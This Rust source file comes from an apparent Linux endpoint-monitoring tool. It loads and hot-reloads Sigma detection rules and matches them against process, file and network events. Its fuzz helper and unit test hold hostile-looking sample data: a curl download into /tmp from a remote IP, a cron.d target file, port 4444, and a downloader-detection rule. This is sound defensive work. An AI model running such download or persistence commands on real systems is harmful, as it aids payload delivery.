//! Sigma rules (process_creation, file_event, network_connection) from a
//! directory, evaluated with the `sigma-rust` crate on Sysmon-style fields
//! (Image, CommandLine, ParentImage, TargetFilename, DestinationIp, ...),
//! reloaded when the directory changes.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant, SystemTime};

use tracing::{info, warn};

use crate::model::event::Payload;
use crate::model::EnrichedEvent;
use crate::model::{Finding, Severity};
use crate::tree::ProcessTree;

/// Sigma log source categories vigil produces.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Category {
    /// exec events.
    ProcessCreation,
    /// file writes and renames.
    FileEvent,
    /// connects.
    NetworkConnection,
}

struct Loaded {
    id: String,
    title: String,
    severity: Severity,
    mitre: Vec<String>,
    category: Category,
    rule: sigma_rust::Rule,
}

/// The loaded rule set.
pub struct SigmaRules {
    dir: PathBuf,
    rules: Vec<Loaded>,
    errors: u64,
    signature: Vec<(PathBuf, SystemTime, u64)>,
    last_check: Instant,
}

impl SigmaRules {
    /// Loads every `*.yml`/`*.yaml` under `dir`. Files that do not parse are
    /// logged and counted, not fatal.
    pub fn load(dir: &Path) -> anyhow::Result<Self> {
        anyhow::ensure!(
            dir.is_dir(),
            "rules directory {} does not exist",
            dir.display()
        );
        let mut s = Self {
            dir: dir.to_path_buf(),
            rules: Vec::new(),
            errors: 0,
            signature: Vec::new(),
            last_check: Instant::now(),
        };
        s.reload();
        Ok(s)
    }

    /// Rules loaded.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// True when no rule is loaded.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// Files that failed to load at the last (re)load.
    pub fn errors(&self) -> u64 {
        self.errors
    }

    /// Reloads when a file was added, removed or changed (checked at most
    /// every 2 s).
    pub fn reload_if_changed(&mut self) {
        if self.last_check.elapsed() < Duration::from_secs(2) {
            return;
        }
        self.last_check = Instant::now();
        if signature(&self.dir) != self.signature {
            self.reload();
        }
    }

    fn reload(&mut self) {
        self.signature = signature(&self.dir);
        let mut rules = Vec::new();
        let mut errors = 0;
        for (path, _, _) in &self.signature {
            match load_file(path) {
                Ok(Some(r)) => rules.push(r),
                Ok(None) => {}
                Err(e) => {
                    errors += 1;
                    warn!(file = %path.display(), error = %e, "Sigma rule not loaded");
                }
            }
        }
        info!(dir = %self.dir.display(), rules = rules.len(), errors, "Sigma rules loaded");
        self.rules = rules;
        self.errors = errors;
    }

    /// Findings of every rule matching the event.
    pub fn evaluate(&self, ev: &EnrichedEvent, tree: &ProcessTree) -> Vec<Finding> {
        let Some((category, event)) = to_sigma(ev, tree) else {
            return Vec::new();
        };
        self.rules
            .iter()
            .filter(|r| r.category == category && r.rule.is_match(&event))
            .map(|r| Finding {
                rule: format!("sigma:{}", r.id),
                source: "sigma",
                severity: r.severity,
                mitre: r.mitre.clone(),
                summary: format!(
                    "Sigma rule \"{}\" matched {}",
                    r.title, ev.process.image.exe
                ),
                never_suppress: false,
                object: String::new(),
            })
            .collect()
    }
}

fn signature(dir: &Path) -> Vec<(PathBuf, SystemTime, u64)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            let Ok(md) = e.metadata() else { continue };
            if md.is_dir() {
                if out.len() < 10_000 {
                    stack.push(p);
                }
            } else if p.extension().is_some_and(|x| x == "yml" || x == "yaml") {
                out.push((p, md.modified().unwrap_or(SystemTime::UNIX_EPOCH), md.len()));
            }
        }
    }
    out.sort();
    out
}

/// Parses one rule file; `Ok(None)` for rules of other log sources.
fn load_file(path: &Path) -> anyhow::Result<Option<Loaded>> {
    let text = std::fs::read_to_string(path)?;
    let stem = path.file_stem().unwrap_or_default().to_string_lossy();
    parse_rule(&text, &stem)
}

/// Parses one rule's text as the loader does and, when it is one vigil
/// evaluates, matches it against a fixed event of each category: the entry
/// point of the `rules` fuzz target (neither may panic, whatever the text).
/// `Ok(true)`: loaded; `Ok(false)`: a rule for another log source.
pub fn check_rule_text(text: &str) -> anyhow::Result<bool> {
    let Some(r) = parse_rule(text, "rule")? else {
        return Ok(false);
    };
    let mut ev = sigma_rust::Event::new();
    for (k, v) in [
        ("Image", "/usr/bin/curl"),
        ("CommandLine", "curl -o /tmp/x http://198.51.100.7/x"),
        ("ParentImage", "/usr/bin/node"),
        ("TargetFilename", "/etc/cron.d/x"),
        ("DestinationIp", "198.51.100.7"),
        ("DestinationPort", "4444"),
        ("ProcessId", "4242"),
    ] {
        ev.insert(k, v);
    }
    let _ = r.rule.is_match(&ev);
    Ok(true)
}

/// [`load_file`] on the text; `stem` names a rule without an id.
fn parse_rule(text: &str, stem: &str) -> anyhow::Result<Option<Loaded>> {
    anyhow::ensure!(text.len() < 1 << 20, "rule file larger than 1 MiB");
    let rule = sigma_rust::rule_from_yaml(text).map_err(|e| anyhow::anyhow!("{e}"))?;
    if let Some(p) = &rule.logsource.product {
        if p != "linux" {
            return Ok(None);
        }
    }
    let category = match rule.logsource.category.as_deref() {
        Some("process_creation") => Category::ProcessCreation,
        Some("file_event") | Some("file_create") => Category::FileEvent,
        Some("network_connection") => Category::NetworkConnection,
        _ => return Ok(None),
    };
    // The crate does not export its Level type; its Debug names are stable.
    let severity = match rule.level.as_ref().map(|l| format!("{l:?}")).as_deref() {
        Some("Critical") => Severity::Critical,
        Some("High") => Severity::High,
        Some("Medium") => Severity::Medium,
        _ => Severity::Low,
    };
    let mitre = rule
        .tags
        .iter()
        .flatten()
        .filter_map(|t| t.strip_prefix("attack."))
        .filter(|t| t.starts_with('t') && t[1..].starts_with(|c: char| c.is_ascii_digit()))
        .map(|t| t.to_ascii_uppercase())
        .collect();
    let id = rule.id.clone().unwrap_or_else(|| stem.to_string());
    Ok(Some(Loaded {
        id,
        title: rule.title.clone(),
        severity,
        mitre,
        category,
        rule,
    }))
}

/// The event in Sysmon field names, with its Sigma category.
fn to_sigma(ev: &EnrichedEvent, tree: &ProcessTree) -> Option<(Category, sigma_rust::Event)> {
    let mut s = sigma_rust::Event::new();
    let p = &ev.process;
    s.insert("Image", p.image.exe.clone());
    s.insert("ProcessId", p.pid.to_string());
    s.insert("User", p.uid.to_string());
    s.insert("CommandLine", p.image.argv.join(" "));
    let cat = match &ev.event.payload {
        Payload::Exec(x) => {
            s.insert("ParentProcessId", p.ppid.to_string());
            if let Some(parent) = tree.get(p.ppid) {
                s.insert("ParentImage", parent.image.exe.clone());
                s.insert("ParentCommandLine", parent.image.argv.join(" "));
            }
            if let Some(a0) = x.argv.first() {
                s.insert(
                    "OriginalFileName",
                    a0.rsplit('/').next().unwrap_or(a0).to_string(),
                );
            }
            Category::ProcessCreation
        }
        Payload::FileOpen(f) => {
            s.insert("TargetFilename", f.path.clone());
            Category::FileEvent
        }
        Payload::Rename(r) => {
            s.insert("TargetFilename", r.new_path.clone());
            s.insert("SourceFilename", r.old_path.clone());
            Category::FileEvent
        }
        Payload::Connect(c) => {
            s.insert("DestinationIp", c.daddr.to_string());
            s.insert("DestinationPort", c.dport.to_string());
            s.insert("SourceIp", c.saddr.to_string());
            s.insert("SourcePort", c.sport.to_string());
            s.insert("Protocol", c.protocol.clone());
            s.insert("Initiated", "true");
            Category::NetworkConnection
        }
        _ => return None,
    };
    Some((cat, s))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn loads_routes_and_matches() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("curl_to_tmp.yml"),
            r#"
title: Downloader writes into /tmp
id: 9d2c1b2e-0000-4000-8000-000000000001
status: test
logsource:
    product: linux
    category: process_creation
detection:
    sel:
        Image|endswith: '/curl'
        CommandLine|contains: ' -o /tmp/'
    condition: sel
level: high
tags:
    - attack.command_and_control
    - attack.t1105
"#,
        )
        .unwrap();
        std::fs::write(dir.path().join("windows.yml"), "title: x\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  s:\n    Image: x\n  condition: s\n").unwrap();
        std::fs::write(dir.path().join("broken.yml"), "title: [unclosed").unwrap();
        let rules = SigmaRules::load(dir.path()).unwrap();
        assert_eq!(rules.len(), 1, "windows rule routed away");
        assert_eq!(rules.errors(), 1);
        assert_eq!(rules.rules[0].mitre, ["T1105"]);
        assert_eq!(rules.rules[0].severity, Severity::High);
    }
}
